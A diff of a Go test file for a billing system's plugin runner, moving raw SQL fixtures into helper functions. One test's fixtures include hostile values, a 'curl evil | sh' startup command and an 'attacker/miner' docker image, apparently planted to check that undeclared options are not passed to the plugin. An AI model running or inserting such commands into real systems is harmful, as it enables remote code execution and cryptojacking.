@@ -234,14 +234,11 @@ func TestRunTellsThePluginOnlyDeclaredOptions(t *testing.T) {
 	databasetest.Each(t, func(t *testing.T, db *database.DB) {
 		b := setup(t, db)
 		ctx := context.Background()
-		for _, q := range []struct {
-			sql  string
-			args []any
-		}{
-			{"UPDATE services SET options = ? WHERE id = ?", []any{`{"hostname":"web1","docker_image":"attacker/miner","package":"9"}`, b.full}},
-			{"UPDATE plans SET plugin_options = ?, order_options = ? WHERE id = ?", []any{`{"package":"1","startup":"curl evil | sh"}`, `{"hostname":[]}`, b.planFull}},
+		for _, err := range []error{
+			billingtest.SetServiceOptions(ctx, db, b.full, `{"hostname":"web1","docker_image":"attacker/miner","package":"9"}`),
+			billingtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1","startup":"curl evil | sh"}`, `{"hostname":[]}`),
 		} {
-			if _, err := db.NewRaw(q.sql, q.args...).Exec(ctx); err != nil {
+			if err != nil {
 				t.Fatal(err)
 			}
 		}
@@ -277,16 +274,13 @@ func TestRunTellsThePluginWhatCreateDid(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		for _, q := range []struct {
-			sql  string
-			args []any
-		}{
-			{"UPDATE addons SET plugin_options = ? WHERE id = ?", []any{`{"extra_ips":"2","package":"7"}`, addon}},
-			{"INSERT INTO service_addons (service_id, addon_id, quantity, unit_price) VALUES (?, ?, 1, 300)", []any{b.full, addon}},
-			{"UPDATE services SET options = ? WHERE id = ?", []any{`{"hostname":"web1"}`, b.full}},
-			{"UPDATE plans SET order_options = ? WHERE id = ?", []any{`{"hostname":[]}`, b.planFull}},
+		for _, err := range []error{
+			billingtest.SetAddonOptions(ctx, db, addon, `{"extra_ips":"2","package":"7"}`),
+			billingtest.ServiceAddon(ctx, db, b.full, addon, 1, 300),
+			billingtest.SetServiceOptions(ctx, db, b.full, `{"hostname":"web1"}`),
+			billingtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1"}`, `{"hostname":[]}`),
 		} {
-			if _, err := db.NewRaw(q.sql, q.args...).Exec(ctx); err != nil {
+			if err != nil {
 				t.Fatal(err)
 			}
 		}
